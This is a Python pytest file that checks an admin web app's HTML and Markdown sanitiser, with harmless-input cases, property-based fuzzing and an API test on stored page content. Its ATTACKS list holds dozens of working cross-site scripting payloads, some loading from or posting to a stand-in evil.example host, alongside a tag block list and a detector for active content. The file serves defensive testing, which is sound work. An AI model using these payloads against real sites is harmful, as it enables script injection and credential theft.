"""What root writes for everybody: harmless text letter by letter, HTML without what could act, whoever renders it."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from admin.web.sanitise import safe_html, safe_page
from tests.admin.api import Api

MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
FORBIDDEN = {
    *("script", "style", "svg", "math", "template", "iframe", "frame", "object", "embed", "applet", "form", "input"),
    *("button", "textarea", "select", "link", "meta", "base", "portal", "dialog", "audio", "video", "noscript", "xmp"),
}
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):(.*)")  # https://url.spec.whatwg.org/#url-scheme-string
SCHEMES = {"", "http", "https", "mailto", "tel"}
STYLES = ("position", "url", "expression", "z-index", "behavior", "@import", "top", "left", "transform")


class Active(HTMLParser):
    """What in a document could act, cover the page, or lead a click to a script."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN:
            self.found.append(tag)
        for name, value in attrs:
            content = "".join((value or "").split()).lower()
            scheme, rest = SCHEME.match(content).groups() if SCHEME.match(content) else ("", "")
            if name.startswith("on") or name in ("srcdoc", "formaction", "id", "name", "srcset", "xlink:href"):
                self.found.append(name)
            elif name == "style" and any(word in content for word in STYLES):
                self.found.append(f"{name}={value}")
            elif name in ("href", "src", "cite", "action", "background") and scheme not in SCHEMES:
                picture = tag == "img" and rest.startswith("image/") and not rest.startswith("image/svg")
                if scheme != "data" or not picture:
                    self.found.append(f"{name}={value}")


def active(html: str) -> list[str]:
    reader = Active()
    reader.feed(html)
    reader.close()
    return reader.found


def assert_safe(served: str) -> None:
    """To a client that puts it into its page as it is, and to one that renders Markdown first."""
    assert active(served) == []
    assert active(MARKDOWN.render(served)) == []


HARMLESS = [
    "",
    "# Hello\n",
    "a < b && c > d, 2 <3",
    "R&D &copy; `a & b`",
    "- one\n- **two** [three](https://x.example/?a=1&b=2 'title')\n\n    code\n",
    "```\nfor (i = 0; i<10; i++)\n```",
    "|a|b|\n|-|-|\n|1|2|",
    "![logo](https://x.example/logo.png) mail@example.org",
    "https://x.example/about?lang=zh#top",
    " https://x.example\n",
    "您好，<3 世界",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_holds_no_html_is_served_letter_by_letter(text: str) -> None:
    assert safe_page(text) == text
    assert_safe(safe_page(text))


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("<h1 align='center'>Hi</h1>", '<h1 align="center">Hi</h1>'),
        ("**bold** and <u>under</u>", "<strong>bold</strong> and <u>under</u>"),
        ("`Bearer <your key>`", "<code>Bearer &lt;your key&gt;</code>"),
        ("```sh\na <b>\n\n\n# c\n```", '<code class="language-sh">a &lt;b&gt;&#10;&#10;&#10;# c&#10;</code>'),
        ("a < b & c <br> d", "a &lt; b &amp; c <br> d"),
        ('<a href="https://x.example/?a=1&b=2" target="_blank">x</a>', 'href="https://x.example/?a=1&amp;b=2"'),
        ('<img src="https://x.example/a" width="20" onerror="x()">', '<img src="https://x.example/a" width="20">'),
        ("![](data:image/png;base64,AAAA)", '<img src="data:image/png;base64,AAAA" alt="">'),
        ('<p style="color:rgb(1, 2, 3);top:0;width:9px">x</p>', 'style="color:rgb(1, 2, 3);width:9px"'),
        ("|a|\n|-|\n|<b>1</b>|", "<td><b>1</b></td>"),
        ("<details><summary>s</summary>t</details>", "<details><summary>s</summary>t</details>"),
        ("<div>\n\n*in*\n\n</div>", "<em>in</em>"),
        ("<script>x()</script>\n\nafter", "<p>after</p>"),
        ("javascript: a language", "<p>javascript: a language</p>"),
    ],
)  # fmt: skip
def test_harmless_html_is_kept(text: str, kept: str) -> None:
    served = safe_page(text)
    assert kept in served
    assert_safe(served)


@pytest.mark.parametrize(
    "text", ["<b>x</b>", "```\n<a>\n\n\n    [b](c)\n```\n\n- x\n\n- <i>y</i>\n", "a\r\rb<i>\r\n\r\nc</i>"]
)
def test_what_is_served_as_html_passes_through_markdown_unchanged(text: str) -> None:
    served = safe_page(text)
    assert served.startswith("<div>") and "\n" not in served and "\r" not in served
    assert MARKDOWN.render(served).rstrip("\n") == served


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    '<b onmouseover="alert(1)">x</b>',
    "<details open ontoggle=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0>",
    "<form action='https://evil.example'><input name=password><button formaction='javascript:x'>x</button></form>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;top:0;left:0;width:100%'>x</div>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='wid\\74h:url(x)'>x</div>",
    "<div id=app class='fixed inset-0'>x</div><a name=self>x</a>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "`<img src=x onerror=alert(1)>`\n\n```\n<script>alert(1)</script>\n```",
    "```\n<script>\n\nalert(1)\n```\n</script><img src=x onerror=alert(1)>",
    "<pre>\n\n</pre><script>alert(1)</script>",
    "<b title='\n\n<script>alert(1)</script>'>x</b>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><title></title><xmp><script>alert(1)</script></xmp><plaintext>",
    "https://x.example/<script>alert(1)</script>",
    "https://x.example/\"onload='alert(1)",
    "https://x.example <img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_that_acts_is_served(text: str) -> None:
    assert_safe(safe_page(text))
    assert active(safe_html(text)) == []


_PIECES = st.sampled_from(
    [
        *ATTACKS,
        *("`", "```\n", "\n", "\n\n", "    ", "<!--", "-->", "<", ">", "'", '"', "\\", "](", "[", ")", "&lt;", "&#60;"),
        *("</pre>", "<pre>", "<div>", "</div>", "<![CDATA[", "]]>", "- ", "> ", "|", "</script>", "\x0c", "\r", " "),
    ]
)


@given(st.lists(_PIECES, max_size=8))
def test_nothing_that_acts_comes_of_pieces_either(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert_safe(safe_page.__wrapped__(text))
    assert active(safe_html.__wrapped__(text)) == []


def test_the_judge_sees_what_acts() -> None:
    assert active("<script>x</script>") and active("<b onclick=x>") and active("<a href='java\nscript:x'>")
    assert active(MARKDOWN.render("<b onclick=x>y</b>")) and active("<p style='position:fixed'>")
    assert not active("<p style='color:red'><a href='https://x'>x</a><img src='data:image/png;base64,A'></p>")


@pytest.mark.parametrize(
    ("key", "path", "name"),
    [
        ("Notice", "/api/notice", ""),
        ("About", "/api/about", ""),
        ("HomePageContent", "/api/home_page_content", ""),
        ("Footer", "/api/status", "footer_html"),
    ],
)
def test_stored_html_is_served_without_its_scripts_and_edited_as_it_was_written(
    api: Api, key: str, path: str, name: str
) -> None:
    written = "<b>Hi</b><script>alert(1)</script> &amp; <img src=x onerror=alert(1)>"
    assert api.root.put("/api/option/", {"key": key, "value": written})["success"]
    data = api.get(path)["data"]
    served = data[name] if name else data
    assert "<b>Hi</b>" in served and "&amp;" in served and "alert" not in unescape(served)
    assert_safe(served)
    (edited,) = [row["value"] for row in api.root.get("/api/option/")["data"] if row["key"] == key]
    assert edited == written
